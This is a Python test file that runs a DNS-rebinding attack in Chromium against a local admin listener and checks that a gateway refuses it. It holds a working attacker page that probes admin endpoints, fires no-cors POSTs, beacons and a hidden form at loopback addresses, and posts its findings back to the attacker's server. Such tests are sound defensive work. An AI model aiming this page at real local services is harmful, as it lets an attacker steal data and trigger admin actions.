"""DNS rebinding in a real browser: a page of a stranger's name, which suddenly means the admin listener, gets nothing.

The browser's proxy plays the name server: http://rebind.example:PORT/ is the attacker's page at first, and whatever is
asked for under that name afterwards goes to 127.0.0.1:PORT as it is, as after a second look-up with a short time to live.
"""

import http.client
import http.server
import json
import sys
import threading
import unittest

import browser

NAME = "rebind.example"
INTENT = "01J9ZC3Q7T8X2M4N6P8R0S2T4V"

# Same-origin calls after the rebinding, then what a page can send to other origins, then what it may frame.
PAGE = """<!doctype html><title>cats</title><script>
const results = {};
const ask = async (name, url, options) => {
  try {
    const reply = await fetch(url, options);
    results[name] = {status: reply.status, text: await reply.text()};
  } catch (error) { results[name] = {status: 0, text: ''}; }
};
(async () => {
  await fetch('/rebind', {method: 'POST'});
  const json = {'Content-Type': 'application/json'};
  const verdict = JSON.stringify({outcome: 'not_applied'});
  for (const path of ['/intents', '/metrics', '/livez', '/readyz', '/healthz', '/nowhere']) await ask('GET ' + path, path);
  await ask('POST /reload', '/reload', {method: 'POST'});
  await ask('POST resolve', '/intents/INTENT/resolve', {method: 'POST', headers: json, body: verdict});
  for (const host of ['127.0.0.1', 'localhost', '[::1]']) {
    const base = 'http://' + host + ':PORT';
    await ask(host + ' GET', base + '/intents');
    await ask(host + ' POST', base + '/reload', {method: 'POST'});
    await ask(host + ' blind POST', base + '/reload', {method: 'POST', mode: 'no-cors'});
    await ask(host + ' blind resolve', base + '/intents/INTENT/resolve',
              {method: 'POST', mode: 'no-cors', body: verdict});
    results[host + ' beacon'] = {status: 0, text: String(navigator.sendBeacon(base + '/reload', ''))};
  }
  const form = document.createElement('form');
  const frame = document.createElement('iframe');
  frame.name = 'target';
  form.method = 'POST'; form.action = 'http://127.0.0.1:PORT/reload'; form.target = 'target';
  document.body.append(frame, form);
  const loaded = new Promise(resolve => { frame.onload = resolve; setTimeout(resolve, 5000); });
  form.submit();
  await loaded;
  try { results.frame = {status: 0, text: frame.contentDocument ? frame.contentDocument.body.innerText : ''}; }
  catch (error) { results.frame = {status: 0, text: ''}; }
  await fetch('/report', {method: 'POST', body: JSON.stringify(results)});
})();
</script><body></body>"""


class Attacker(http.server.ThreadingHTTPServer):
    """The proxy of the browser: serves the page, then lets its name mean the victim's port on this machine."""

    daemon_threads = True

    def __init__(self, victim_port):
        super().__init__(("127.0.0.1", 0), Handler)
        self.victim_port = victim_port
        self.bound_to_victim = False
        self.results = None
        self.reported = threading.Event()
        self.seen = set()  # paths that reached the victim under whatever name
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def page(self):
        return PAGE.replace("PORT", str(self.victim_port)).replace("INTENT", INTENT).encode()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        self.serve()

    do_POST = do_OPTIONS = do_GET

    def serve(self):
        attacker = self.server
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        path = self.path.split("://", 1)[-1]
        path = path[path.find("/"):]
        if path == "/report":
            attacker.results = json.loads(body)
            attacker.reported.set()
            return self.answer(204, b"")
        if path == "/rebind":
            attacker.bound_to_victim = True
            return self.answer(204, b"")
        if not attacker.bound_to_victim:
            return self.answer(200, attacker.page(), "text/html")
        attacker.seen.add(path)
        return self.forward(path, body)

    def forward(self, path, body):
        """Byte for byte what the browser would send to the address itself, but for the form of the target."""
        victim = http.client.HTTPConnection("127.0.0.1", self.server.victim_port, timeout=browser.PATIENCE)
        victim.putrequest(self.command, path, skip_host=True, skip_accept_encoding=True)
        for name, value in self.headers.items():
            if name.lower() not in ("proxy-connection", "connection"):
                victim.putheader(name, value)
        victim.endheaders(body or None)
        reply = victim.getresponse()
        self.answer(reply.status, reply.read(), reply.headers.get("Content-Type", "text/plain"))
        victim.close()

    def answer(self, status, body, content_type="text/plain"):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Gullible(http.server.ThreadingHTTPServer):
    """An admin listener that asks nobody who he is: the attack must succeed against it, or this test shows nothing."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), GullibleHandler)
        self.posts = []
        threading.Thread(target=self.serve_forever, daemon=True).start()


class GullibleHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.answer()

    def do_POST(self):
        self.server.posts.append(self.path)
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.answer()

    def answer(self):
        self.send_response(200)
        self.send_header("Content-Length", "13")
        self.end_headers()
        self.wfile.write(b"secret-tenant")

    def log_message(self, *_):
        pass


def attack(port):
    """What the page learnt, by what it tried."""
    attacker = Attacker(port)
    page = browser.Browser(f"http://{NAME}:{port}/", f"--proxy-server=http://127.0.0.1:{attacker.server_port}",
                           "--proxy-bypass-list=<-loopback>").start()
    try:
        if not attacker.reported.wait(browser.PATIENCE):
            raise RuntimeError("the page did not report")
        return attacker
    finally:
        page.close()
        attacker.shutdown()
        attacker.server_close()


class Rebinding(unittest.TestCase):
    def test_works_against_a_listener_that_looks_at_nothing(self):
        gullible = Gullible()
        attacker = attack(gullible.server_port)
        gullible.shutdown()
        gullible.server_close()
        self.assertEqual(attacker.results["GET /intents"], {"status": 200, "text": "secret-tenant"})
        self.assertEqual(attacker.results["POST resolve"]["status"], 200)
        self.assertIn(f"/intents/{INTENT}/resolve", gullible.posts)

    def expect_nothing(self, gateway):
        attacker = attack(gateway.admin_port)
        self.assertTrue({"/intents", "/reload", "/metrics"} <= attacker.seen, "the requests must have come through")
        for name, result in attacker.results.items():
            with self.subTest(name):
                self.assertIn(result["status"], (0, 401, 403), result)
                self.assertNotIn("secret-tenant", result["text"])
                self.assertNotIn("walletgate_", result["text"])
        log = gateway.log()
        self.assertNotIn('"message":"audit"', log)
        self.assertNotIn('"message":"reloaded"', log)

    def test_gets_nothing_from_a_listener_without_tokens(self):
        gateway = browser.Gateway()
        self.addCleanup(gateway.close)
        self.expect_nothing(gateway)

    def test_gets_nothing_where_scrapers_need_no_token(self):
        token = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
        gateway = browser.Gateway("port: 0, hosts: [walletgate], metrics_token: false, "
                                  f"tokens: [{{name: ops, role: operator, sha256: \"{token}\"}}]")
        self.addCleanup(gateway.close)
        self.expect_nothing(gateway)


if __name__ == "__main__":
    if not browser.chromium():
        print("no chromium here")
        sys.exit(77)
    unittest.main()
